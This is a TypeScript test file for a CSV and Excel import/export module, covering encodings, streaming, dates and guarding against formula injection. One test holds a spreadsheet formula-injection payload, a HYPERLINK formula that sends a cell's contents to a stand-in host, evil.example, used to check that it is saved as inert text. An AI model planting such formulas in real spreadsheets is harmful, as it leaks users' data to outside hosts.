import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { formatOf, openTableWriter, readTable, TableFileError } from './table-file';

const dir = mkdtempSync(path.join(os.tmpdir(), 'table-file-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const file = (name: string) => path.join(dir, name);

async function rows(name: string, encoding?: 'big5') {
  const read: { line: number; cells: string[] }[] = [];
  for await (const row of readTable(file(name), encoding)) read.push(row);
  return read;
}

describe('import and export files', () => {
  it('tells the format by the extension', () => {
    expect(formatOf('a.CSV')).toBe('csv');
    expect(formatOf('a.xlsx')).toBe('xlsx');
    expect(formatOf('a.xls')).toBeNull();
  });

  it('writes a CSV a spreadsheet reads (byte-order mark, formulas guarded) and reads it back', async () => {
    const writer = await openTableWriter(file('out.csv'), 'members');
    await writer.write(['姓名', 'phone', 'note']);
    await writer.write(['林美玲', '+886 912 345 678', 'a, "quoted"\nline']);
    await writer.close();
    const text = readFileSync(file('out.csv'), 'utf8');
    expect(text.startsWith('\uFEFF姓名,phone,note\r\n')).toBe(true);
    expect(text).toContain("'+886 912 345 678");
    expect(await rows('out.csv')).toEqual([
      { line: 1, cells: ['姓名', 'phone', 'note'] },
      { line: 2, cells: ['林美玲', '+886 912 345 678', 'a, "quoted"\nline'] },
    ]);
    await expect(openTableWriter(file('out.csv'), 'members')).rejects.toThrow(TableFileError);
  });

  it('writes formula-like text of a workbook as text for good (quote prefix, Text format), and reads it back', async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
    const writer = await openTableWriter(file('formulas.xlsx'), 'members');
    await writer.write(['name', 'phone', 'note', 'tab', 'plain']);
    await writer.write([hyperlink, '+886 912 345 678', '@SUM(1,2)', '\t-1+1', '林美玲']);
    await writer.close();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file('formulas.xlsx'));
    const row = workbook.worksheets[0]!.getRow(2);
    for (const [column, text] of [
      [1, hyperlink],
      [2, '+886 912 345 678'],
      [3, '@SUM(1,2)'],
      [4, '\t-1+1'],
    ] as const) {
      const cell = row.getCell(column);
      expect(cell.type, `column ${column}`).toBe(ExcelJS.ValueType.String);
      expect(cell.value, `column ${column}`).toBe(`'${text}`);
      expect(cell.numFmt, `column ${column}`).toBe('@');
    }
    expect(row.getCell(5).value).toBe('林美玲');
    // An import of the file takes the text as it was written.
    expect((await rows('formulas.xlsx'))[1]!.cells).toEqual([
      hyperlink,
      '+886 912 345 678',
      '@SUM(1,2)',
      '-1+1',
      '林美玲',
    ]);
  });

  it('reads Big5 when told, and refuses it as UTF-8', async () => {
    writeFileSync(file('big5.csv'), Buffer.from([0xa9, 0x6d, 0xa6, 0x57, 0x2c, 0x41, 0x0a]));
    await expect(rows('big5.csv')).rejects.toMatchObject({ reason: 'encoding' });
    expect(await rows('big5.csv', 'big5')).toEqual([{ line: 1, cells: ['姓名', 'A'] }]);
  });

  it('reads a large workbook as a stream, Chinese intact across every chunk, dates as YYYY-MM-DD', async () => {
    const writer = await openTableWriter(file('big.xlsx'), 'members');
    await writer.write(['會員編號', '姓名']);
    for (let i = 1; i <= 20_000; i++) await writer.write([`M${i}`, `會員${i}林美玲`]);
    await writer.close();
    let count = 0;
    for await (const row of readTable(file('big.xlsx'))) {
      if (row.line > 1) expect(row.cells[1], `line ${row.line}`).toBe(`會員${row.line - 1}林美玲`);
      count += 1;
    }
    expect(count).toBe(20_001);

    // A workbook as a spreadsheet program writes it: shared strings, a date cell.
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('名單');
    sheet.addRows([
      ['會籍起日', '姓名'],
      [new Date(Date.UTC(2026, 0, 31)), '張雅婷'],
    ]);
    sheet.getCell('A2').numFmt = 'yyyy-mm-dd';
    await workbook.xlsx.writeFile(file('excel.xlsx'));
    expect(await rows('excel.xlsx')).toEqual([
      { line: 1, cells: ['會籍起日', '姓名'] },
      { line: 2, cells: ['2026-01-31', '張雅婷'] },
    ]);
  }, 60_000);

  it('refuses a workbook that is not one', async () => {
    writeFileSync(file('fake.xlsx'), 'not a zip');
    await expect(rows('fake.xlsx')).rejects.toMatchObject({ reason: 'unreadable' });
    await expect(rows('missing.csv')).rejects.toMatchObject({ reason: 'missing' });
  });
});
